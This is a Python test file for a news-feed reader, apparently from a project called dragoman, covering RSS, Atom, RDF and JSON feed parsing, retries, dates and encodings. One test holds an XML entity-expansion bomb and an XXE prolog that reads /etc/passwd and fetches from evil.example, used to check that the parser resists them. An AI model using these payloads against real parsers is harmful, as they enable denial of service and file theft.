"""Feeds of every kind, and what becomes of them over time. The clock is given; the web is a function."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx2
import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dragoman.collect import Failure, Feed, FeedState, Page, Poll, Raw
from dragoman.collect.entries import contents_of, is_feed
from dragoman.collect.feed import DEAD_AFTER, NEW_AT_ONCE, outlet_of
from dragoman.errors import DragomanError, Gone, InputError, TooLarge, TryLater
from tests.collect.site import client, mock, site

NOW = datetime(2024, 11, 27, 12, 0, tzinfo=UTC)
LONG = " ".join(f"The minister said on day {n} that the bridge would open." for n in range(12))
FEED = "http://feed.example/rss"

RSS = f"""<?xml version="1.0"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>Khan Uul Courier &#187; World</title><ttl>60</ttl>
<item><title>Bridge &amp; road</title><link>http://site.example/1?utm_source=rss</link><guid isPermaLink="false">n1</guid>
<pubDate>Tue, 26 Nov 2024 10:57:00 +0300</pubDate><description>Short.</description>
<content:encoded><![CDATA[<p>{LONG}</p>]]></content:encoded></item></channel></rss>"""
RSS_091 = f"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Khan Uul Courier</title>
<item><title>Bridge &amp; road</title><link>http://site.example/1</link><description>{LONG}</description></item></channel></rss>"""
RDF = f"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel rdf:about="http://site.example/"><title>Khan Uul Courier</title></channel>
<item rdf:about="http://site.example/1"><title>Bridge &amp; road</title><link>http://site.example/1</link>
<dc:date>2024-11-26T10:57:00+03:00</dc:date><content:encoded>&lt;p&gt;{LONG}&lt;/p&gt;</content:encoded></item></rdf:RDF>"""
ATOM = f"""<feed xmlns="http://www.w3.org/2005/Atom"><title>Khan Uul Courier</title><id>urn:f</id>
<entry><title type="html">Bridge &amp;amp; road</title><id>urn:1</id><link rel="alternate" href="/1"/>
<published>2024-11-26T10:57:00+03:00</published><updated>2024-11-26T11:00:00Z</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>{LONG}</p></div></content></entry></feed>"""
JSON = json.dumps(
    {"version": "https://jsonfeed.org/version/1.1", "title": "Khan Uul Courier", "items": [
        {"id": 1, "url": "/1", "title": "Bridge & road", "content_html": f"<p>{LONG}</p>",
         "date_published": "2024-11-26T10:57:00+03:00"}]}
)  # fmt: skip


def rss(*items: str) -> str:
    return f'<rss version="2.0"><channel><title>Courier</title>{"".join(items)}</channel></rss>'


def item(name: str, *, day: int | str = 26, text: str = LONG, link: bool = True) -> str:
    date = day if isinstance(day, str) else f"{day:02d} Nov 2024 10:00:00 GMT"
    where = f"<link>http://site.example/{name}</link>" if link else ""
    dated = f"<pubDate>{date}</pubDate>" if date else ""
    return f"<item><title>{name}</title><guid>{name}</guid>{where}{dated}<description>{text}</description></item>"


class Web:
    """Bodies or statuses by path; anything else is not there."""

    def __init__(self, **answers: str | int) -> None:
        self.answers: dict[str, str | int] = dict(answers)
        self.asked: list[str] = []
        self.http = mock(self._answer)

    def _answer(self, request: httpx2.Request) -> httpx2.Response:
        path = request.url.path.strip("/")
        self.asked.append(path)
        answer = self.answers.get(path, 404)
        if isinstance(answer, int):
            return httpx2.Response(answer)
        if request.headers.get("if-none-match") == f'"{hash(answer)}"':
            return httpx2.Response(304)
        return httpx2.Response(200, text=answer, headers={"Content-Type": "text/html", "ETag": f'"{hash(answer)}"'})

    def poll(self, state: FeedState | None = None, *, now: datetime = NOW) -> Poll:
        return Feed(FEED, http=self.http).poll(state or FeedState(), now=now)


def reports(poll: Poll) -> list[Raw]:
    return [found for found in poll.items if isinstance(found, Raw)]


@pytest.mark.parametrize("feed", [RSS, RSS_091, RDF, ATOM, JSON], ids=["rss 2.0", "rss 0.91", "rdf", "atom", "json"])
def test_every_kind_of_feed_gives_the_same_report(feed: str) -> None:
    dated = feed is not RSS_091
    poll = Web(rss=feed, **{"1": f"<html><body><p>{LONG}</p></body></html>"}).poll()
    (raw,) = reports(poll)
    assert raw.title == "Bridge & road" and raw.outlet == "Khan Uul Courier" and raw.feed == FEED
    assert LONG in (raw.data if isinstance(raw.data, str) else raw.data.decode()) and raw.media == "html"
    assert raw.date == ("2024-11-26T07:57:00Z" if dated else None)
    assert raw.url is not None and raw.url.partition("?")[0] in ("http://site.example/1", "http://feed.example/1")
    assert raw.notes == (() if dated else ("The feed gives no date.",))
    assert poll.state.title and poll.state.status == "ok"


def test_a_page_that_is_a_feed_is_read_as_one() -> None:
    found = list(Page(FEED, http=Web(rss=RSS).http).items())
    assert len(found) == 1 and isinstance(found[0], Raw) and found[0].guid == "n1"


def test_a_saved_feed_is_read(tmp_path: Path) -> None:
    path = tmp_path / "a.rss"
    path.write_text(RSS)
    assert Feed.takes(str(path)) and not Feed.takes("none.rss") and not Feed.takes("https://a.example/a.rss")
    assert [raw.title for raw in Feed(str(path)).items() if isinstance(raw, Raw)] == ["Bridge & road"]
    assert Feed("feed:https://a.example/x").place == "https://a.example/x"
    assert Feed("feed://a.example/x").place == "http://a.example/x"


@pytest.mark.parametrize("text", ["Only this.", LONG + " [...]", LONG + " Read more", LONG + " […]"])
def test_what_the_feed_does_not_tell_in_full_comes_from_the_page(text: str) -> None:
    feed = RSS.replace(LONG, text)
    web = Web(rss=feed, **{"1": "<html><body><p>The page.</p></body></html>"})
    (raw,) = reports(web.poll())
    assert raw.data == b"<html><body><p>The page.</p></body></html>" and raw.title == "Bridge & road"


def test_a_page_that_is_not_there_leaves_the_summary_if_that_says_something() -> None:
    web = Web(rss=rss(item("long"), item("short", text="Few words.")))
    poll = web.poll()
    told, failed = poll.items
    assert isinstance(told, Raw) and "404" in told.notes[0] and told.data == LONG
    assert isinstance(failed, Failure) and isinstance(failed.error, Gone)
    assert web.poll(poll.state).items == ()


def test_a_page_that_is_busy_is_tried_again_with_the_next_polls_and_then_given_up() -> None:
    web = Web(rss=rss(item("a")), a=503)
    state, kinds = FeedState(), []
    for _ in range(4):
        poll = web.poll(state)
        state = poll.state
        kinds.append([type(found) for found in poll.items])
    assert kinds == [[Failure], [Failure], [Raw], []]
    assert web.asked.count("a") == 3


def test_what_is_unchanged_is_not_told_again_and_what_changed_is() -> None:
    web = Web(rss=rss(item("a"), item("b")), a="<p>A", b="<p>B")
    first = web.poll()
    assert [raw.title for raw in reports(first)] == ["a", "b"]
    again = web.poll(first.state)
    assert again.items == () and again.state.seen == first.state.seen and again.state.etag == first.state.etag
    web.answers["rss"] = rss(item("a", text=LONG + " Corrected."), item("b"))
    changed = web.poll(again.state)
    assert [raw.guid for raw in reports(changed)] == ["a"]


def test_dates_that_are_missing_odd_ahead_or_too_old_are_said_to_be() -> None:
    days = [
        "",
        "someday",
        "Tue, 26 Nov 2041 10:00:00 GMT",
        "Thu, 01 Jan 1970 00:00:00 GMT",
        "Wed, 27 Nov 2024 12:30:00 GMT",
    ]
    web = Web(rss=rss(*(item(f"n{n}", day=day) for n, day in enumerate(days))), **{f"n{n}": "<p>x" for n in range(5)})
    found = reports(web.poll())
    assert [raw.date for raw in found] == [None, None, "2024-11-27T12:00:00Z", None, "2024-11-27T12:30:00Z"]
    assert [len(raw.notes) for raw in found] == [1, 1, 1, 1, 0]
    assert "lies ahead" in found[2].notes[0] and "someday" in found[1].notes[0]


def test_an_item_taken_back_is_told_and_one_that_slid_out_is_not() -> None:
    pages = dict.fromkeys("abc", "<p>page")
    web = Web(rss=rss(item("c", day=26), item("b", day=25), item("a", day=24)), **pages)
    first = web.poll()
    web.answers["rss"] = rss(item("c", day=26), item("b", day=25))  # the oldest slid out
    assert web.poll(first.state).gone == ()
    web.answers["rss"] = rss(item("c", day=26), item("a", day=24))  # the one between is missing, its page is there
    assert web.poll(first.state).gone == ()
    del web.answers["b"]  # and now it is not
    assert web.poll(first.state).gone == ("http://site.example/b",)


def test_an_atom_tombstone_takes_an_item_back() -> None:
    first = Web(rss=ATOM).poll()
    grave = (
        '<at:deleted-entry xmlns:at="http://purl.org/atompub/tombstones/1.0" ref="urn:1" when="2024-11-27T00:00:00Z"/>'
    )
    after = Web(rss=ATOM[: ATOM.index("<entry")] + grave + "</feed>").poll(
        msgspec.structs.replace(first.state, etag=None)
    )
    assert after.gone == ("http://feed.example/1",)


def test_many_new_items_come_in_parts_and_none_is_lost() -> None:
    count = NEW_AT_ONCE * 2 + 50
    web = Web(rss=rss(*(item(f"n{n}", link=False) for n in range(count))))
    state, told = FeedState(), []
    for _ in range(4):
        poll = web.poll(state)
        state = poll.state
        told.append([raw.title or "" for raw in reports(poll)])
    assert [len(part) for part in told] == [100, 100, 50, 0]
    assert sorted(title for part in told for title in part) == sorted(f"n{n}" for n in range(count))


def test_a_feed_that_fails_is_asked_less_and_less_often_and_comes_back() -> None:
    web, state, now = Web(rss=500), FeedState(), NOW
    waits = []
    for _ in range(14):
        poll = web.poll(state, now=now)
        assert [type(found) for found in poll.items] == [Failure]
        state = poll.state
        assert state.next_due is not None and state.last_error and not state.due(now)
        due = datetime.fromisoformat(state.next_due)
        waits.append(due - now)
        now = due
        assert state.due(now) and state.status == ("dead" if state.failures >= DEAD_AFTER else "failing")
    assert waits == sorted(waits) and waits[0] < timedelta(hours=2)
    assert timedelta(days=7) <= waits[-1] < timedelta(days=7.5)
    web.answers["rss"] = RSS
    back = web.poll(state, now=now)
    assert (
        back.state.status == "ok"
        and back.state.failures == 0
        and back.state.last_error is None
        and len(back.items) == 1
    )


def test_a_feed_says_how_often_to_ask_and_a_server_how_long_to_wait() -> None:
    state = Web(rss=RSS).poll().state
    assert state.minutes == 60 and "2024-11-27T13:00:00Z" <= (state.next_due or "") <= "2024-11-27T13:03:00Z"
    busy = mock(lambda request: httpx2.Response(429, headers={"Retry-After": "86400"}))
    poll = Feed(FEED, http=busy).poll(FeedState(), now=NOW)
    assert isinstance(poll.items[0], Failure) and isinstance(poll.items[0].error, TryLater)
    assert (poll.state.next_due or "") >= "2024-11-28T12:00:00Z"


def test_a_feed_that_has_moved_for_good_is_asked_at_its_new_address() -> None:
    with site() as here:
        here.answers["/old"] = (301, {"Location": "/new"}, b"")
        here.put("/new", RSS, "application/rss+xml")
        feed = Feed(f"{here.address}/old", http=client())
        state = feed.poll(FeedState(), now=NOW).state
        assert state.moved == f"{here.address}/new"
        feed.poll(state, now=NOW)
        assert here.paths() == ["/old", "/new", "/new"]


def test_a_state_goes_through_json_unchanged() -> None:
    state = Web(rss=rss(item("a"))).poll().state
    assert msgspec.json.decode(msgspec.json.encode(state), type=FeedState) == state and state.seen


@pytest.mark.parametrize(
    ("body", "says"),
    [("", "empty"), ("<html><body>no", "not a feed"), ("{}", "not a feed"), ("\x89PNG", "not a feed"),
     ('<html><link rel="alternate" type="application/rss+xml" href="/feed.xml">', "http://feed.example/feed.xml"),
     ('{"version": "https://jsonfeed.org/version/1", "items": 3}', "without items"),
     ('{"version": "https://jsonfeed.org/version/1", "items": [', "too broken")],
)  # fmt: skip
def test_what_is_no_feed_is_one_sentence_and_the_feed_fails(body: str, says: str) -> None:
    poll = Web(rss=body).poll()
    (failure,) = poll.items
    assert isinstance(failure, Failure) and isinstance(failure.error, InputError)
    assert says in str(failure.error) and poll.state.status == "failing"


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + "ha " * 100 + '">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)  # fmt: skip
OUTSIDE = '<!DOCTYPE rss [<!ENTITY j SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://evil.example/d"> %d;]>'


@pytest.mark.parametrize("prolog", [BOMB, OUTSIDE])
def test_entities_neither_grow_nor_reach_outside(prolog: str) -> None:
    web = Web(rss=prolog + rss(item("a", text="&j; " + LONG, link=False)))
    (raw,) = reports(web.poll())
    assert web.asked == ["rss"] and "root:" not in raw.data and len(raw.data) < 2000  # type: ignore[operator]


def test_broken_markup_still_gives_its_items() -> None:
    broken = (
        rss(item("a", link=False), item("b", link=False))
        .replace("</channel></rss>", "")
        .replace("the bridge", "A & B &nbsp;")
    )
    assert [raw.title for raw in reports(Web(rss=broken).poll())] == ["a", "b"]


def test_more_tags_than_a_parser_can_take_are_cut_or_refused() -> None:
    many = rss(*(item(f"n{n}", text="<b>x</b>" * 50, link=False) for n in range(2000)))
    contents = contents_of(many.encode(), origin=FEED)
    assert 10 < len(contents.entries) <= 500 and contents.entries[0].title == "n0"
    with pytest.raises(TooLarge):
        contents_of(rss(item("a", text="<b>" * 100_000)).encode(), origin=FEED)


@pytest.mark.parametrize(("encoding", "declared"), [("utf-8", ""), ("utf-8", "utf-8"), ("cp1252", "windows-1252"), ("cp1252", ""), ("utf-16", "utf-16"), ("utf-8", "punycode"), ("koi8-r", "koi8-r")])  # fmt: skip
def test_encodings(encoding: str, declared: str) -> None:
    title = "Мост" if encoding == "koi8-r" else "Brücke — “open”"
    head = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    data = (head + rss(item(title, link=False))).encode(encoding)
    assert is_feed(data) and contents_of(data, origin=FEED).entries[0].title == title


@pytest.mark.parametrize(
    ("title", "outlet"),
    [("Khan Uul Courier » World", "Khan Uul Courier"), ("The Wire | RSS", "The Wire"), ("Courier RSS Feed", "Courier"),
     ("Reuters - World", "Reuters - World"), ("", None), (None, None)],
)  # fmt: skip
def test_the_outlet_is_named_by_the_feed(title: str | None, outlet: str | None) -> None:
    assert outlet_of(title) == outlet


def mutated(seed: str) -> Callable[[list[tuple[int, str]]], str]:
    def change(edits: list[tuple[int, str]]) -> str:
        text = seed
        for at, piece in edits:
            at %= len(text) + 1
            text = text[:at] + piece + text[at + len(piece) // 2 :]
        return text

    return change


@given(
    st.sampled_from([RSS, RDF, ATOM, JSON]).flatmap(
        lambda seed: st.lists(
            st.tuples(
                st.integers(0, 5000), st.sampled_from(["<", ">", "&", "]]>", "<![CDATA[", "\0", "</item>", '"', "<!--"])
            ),
            max_size=6,
        ).map(mutated(seed))
    )
)
def test_no_damage_to_a_feed_breaks_its_reader(text: str) -> None:
    try:
        contents_of(text.encode(), origin=FEED)
    except DragomanError as error:
        assert "\n" not in str(error)


def test_a_fault_of_ours_is_a_failure_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dragoman.collect.feed.contents_of", lambda *_, **__: 1 / 0)
    poll = Web(rss=RSS).poll()
    assert isinstance(poll.items[0], Failure) and "fault of dragoman" in str(poll.items[0].error)
    assert poll.state.failures == 1
